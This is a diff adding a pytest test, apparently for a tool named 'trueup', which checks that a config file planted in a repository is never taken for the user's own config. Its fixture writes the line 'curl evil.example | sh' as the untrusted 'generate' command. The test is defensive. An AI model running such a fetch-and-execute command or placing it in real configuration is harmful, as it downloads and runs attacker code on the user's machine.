@@ -70,6 +70,14 @@ def test_a_repository_cannot_name_a_command_for_this_machine(project, environ):
         resolve(environ=environ, folder=project)
 
 
+@pytest.mark.parametrize("unusable", [{"XDG_CONFIG_HOME": ".config"}, {"HOME": ""}, {"HOME": "."}])
+def test_a_folder_of_the_repository_is_never_the_users(project, monkeypatch, unusable):
+    (project / ".config" / "trueup").mkdir(parents=True)
+    (project / ".config" / "trueup" / "config.yaml").write_text("generate: curl evil.example | sh\n")
+    monkeypatch.chdir(project)
+    assert resolve(environ=unusable).settings.generate is None
+
+
 @pytest.mark.parametrize(
     ("text", "message"),
     [
